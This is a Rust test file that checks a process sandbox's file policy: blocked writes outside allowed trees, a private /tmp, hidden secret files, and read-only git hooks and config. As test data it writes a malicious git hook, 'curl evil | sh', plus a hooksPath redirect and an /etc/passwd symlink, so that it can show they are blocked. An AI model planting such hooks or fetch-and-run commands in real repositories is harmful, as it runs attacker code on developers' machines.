//! Files: what the program may write, and what it can see.

use super::*;

#[test]
fn sandbox_refuses_writes_outside_the_writable_trees() {
    let s = Sbx::new();
    let out = s.out();
    std::fs::write(out.join("existing"), "orig").unwrap();
    let script = format!(
        r#"o={o}
        echo x > $o/new; echo "create=$?"
        echo x >> $o/existing; echo "append=$?"
        rm -f $o/existing; echo "remove=$?"
        mkdir $o/dir; echo "mkdir=$?"
        ln -s /etc/passwd $o/link; echo "symlink=$?"
        cat $o/existing"#,
        o = out.display()
    );
    let r = s.bash(&s.base(), &script);
    assert_eq!(
        lines(&r.stdout),
        [
            "create=1",
            "append=1",
            "remove=1",
            "mkdir=1",
            "symlink=1",
            "orig"
        ],
        "{r:#?}"
    );
    // The host's tree is read-only in the sandbox's mount namespace (EROFS comes before
    // Landlock's EACCES).
    assert!(r.stderr.contains("Read-only file system"), "{r:#?}");
    let mut left: Vec<_> = std::fs::read_dir(out)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    left.sort();
    assert_eq!(left, ["existing"]);
    assert_eq!(
        std::fs::read_to_string(out.join("existing")).unwrap(),
        "orig"
    );

    // Control: the same script unsandboxed changes everything.
    let c = unsandboxed(&script);
    assert_eq!(
        lines(&c.stdout)[..5],
        ["create=0", "append=0", "remove=0", "mkdir=0", "symlink=0"]
    );
}

#[test]
fn sandbox_lets_the_program_write_its_workspace_and_attempt_dir() {
    let s = Sbx::new();
    let tree = s.out().join("tree");
    std::fs::create_dir(&tree).unwrap();
    let mut policy = s.base();
    policy["writable"].as_array_mut().unwrap().push(json!(tree));
    let script = format!(
        r#"set -e
        pwd
        echo ws > a.txt; mkdir -p d/e; mv a.txt d/e/a.txt; ln -s d/e/a.txt link
        echo att > {att}/b.txt; rm -f {att}/gone
        echo tree > {tree}/c.txt
        echo done"#,
        att = s.attempt.display(),
        tree = tree.display()
    );
    std::fs::write(s.attempt.join("gone"), "").unwrap();
    let r = s.bash(&policy, &script);
    assert_eq!(r.code, 0, "{r:#?}");
    assert_eq!(lines(&r.stdout), [s.ws.to_str().unwrap(), "done"]);
    assert_eq!(
        std::fs::read_to_string(s.ws.join("d/e/a.txt")).unwrap(),
        "ws\n"
    );
    assert_eq!(std::fs::read_to_string(s.ws.join("link")).unwrap(), "ws\n");
    assert_eq!(
        std::fs::read_to_string(s.attempt.join("b.txt")).unwrap(),
        "att\n"
    );
    assert!(!s.attempt.join("gone").exists());
    assert_eq!(
        std::fs::read_to_string(tree.join("c.txt")).unwrap(),
        "tree\n"
    );
}

#[test]
fn sandbox_keeps_tmp_private() {
    let s = Sbx::new();
    let tag = std::process::id();
    let inside = PathBuf::from(format!("/tmp/sp-sbx-inside-{tag}"));
    let canary = PathBuf::from(format!("/tmp/sp-sbx-canary-{tag}"));
    std::fs::write(&canary, "host").unwrap();
    let script = format!(
        r#"echo mine > {inside} && cat {inside}
        cat {canary}; echo "canary=$?"
        [ -d {ws} ] && echo "workspace visible"
        ls -A .."#,
        inside = inside.display(),
        canary = canary.display(),
        ws = s.ws.display()
    );
    let r = s.bash(&s.base(), &script);
    let _ = std::fs::remove_file(&canary);
    // Under the private /tmp: only the trees the policy names, not the host's files, not
    // even the others in the test's own temp dir (policy files), and not through `..` from
    // the working directory (resolved by the kernel, not by bash's $PWD).
    assert_eq!(
        lines(&r.stdout),
        ["mine", "canary=1", "workspace visible", "attempt", "work"],
        "{r:#?}"
    );
    assert!(
        !inside.exists(),
        "a file written under /tmp inside reached the host's /tmp"
    );
}

#[test]
fn sandbox_hides_hidden_files_and_dirs() {
    let s = Sbx::new();
    std::fs::write(s.ws.join("secret.txt"), "TOPSECRET").unwrap();
    std::fs::create_dir(s.ws.join("vault")).unwrap();
    std::fs::write(s.ws.join("vault/key"), "KEY").unwrap();
    std::fs::write(s.out().join("token"), "TOKEN").unwrap();
    let mut policy = s.base();
    policy["hidden"] = json!([
        s.ws.join("secret.txt"),
        s.ws.join("vault"),
        s.out().join("token"),
        s.out().join("does-not-exist"),
    ]);
    let script = format!(
        r#"echo "secret=[$(cat secret.txt)]"
        echo "vault=[$(ls -A vault)]"
        echo "token=[$(cat {token})]"
        echo x > vault/new; echo "write-vault=$?"
        echo x > secret.txt
        cat vault/key; echo "key=$?""#,
        token = s.out().join("token").display()
    );
    let r = s.bash(&policy, &script);
    assert_eq!(
        lines(&r.stdout),
        [
            "secret=[]",
            "vault=[]",
            "token=[]",
            "write-vault=1",
            "key=1"
        ],
        "{r:#?}"
    );
    assert_eq!(
        std::fs::read_to_string(s.ws.join("secret.txt")).unwrap(),
        "TOPSECRET"
    );
    assert!(!s.ws.join("vault/new").exists());

    // Control: without the rule, the same script sees everything.
    let r = s.bash(&s.base(), &script);
    assert!(
        r.stdout.contains("secret=[TOPSECRET]") && r.stdout.contains("vault=[key]"),
        "{r:#?}"
    );
}

#[test]
fn sandbox_keeps_git_hooks_and_config_read_only_in_a_writable_workspace() {
    let s = Sbx::new();
    let git = s.ws.join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::create_dir_all(git.join("objects")).unwrap();
    std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let mut policy = s.base();
    policy["read_only"] = json!([git.join("hooks"), git.join("config")]);
    let script = r#"
        echo 'curl evil | sh' > .git/hooks/post-checkout; echo "new-hook=$?"
        echo x >> .git/hooks/pre-commit.sample; echo "edit-hook=$?"
        rm .git/hooks/pre-commit.sample; echo "rm-hook=$?"
        echo '[core] hooksPath = /tmp' >> .git/config; echo "edit-config=$?"
        echo '[core]' > .git/config.new && mv .git/config.new .git/config; echo "replace-config=$?"
        mv .git/hooks .git/hooks.old; echo "move-hooks=$?"
        echo 'ref: refs/heads/x' > .git/HEAD; echo "head=$?"
        mkdir .git/objects/ab && echo o > .git/objects/ab/cd; echo "objects=$?"
    "#;
    let r = s.bash(&policy, script);
    assert_eq!(
        lines(&r.stdout),
        [
            "new-hook=1",
            "edit-hook=1",
            "rm-hook=1",
            "edit-config=1",
            "replace-config=1",
            "move-hooks=1",
            "head=0",
            "objects=0"
        ],
        "{r:#?}"
    );
    assert!(!git.join("hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read_to_string(git.join("hooks/pre-commit.sample")).unwrap(),
        "#!/bin/sh\n"
    );
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(git.join("HEAD")).unwrap(),
        "ref: refs/heads/x\n"
    );
}
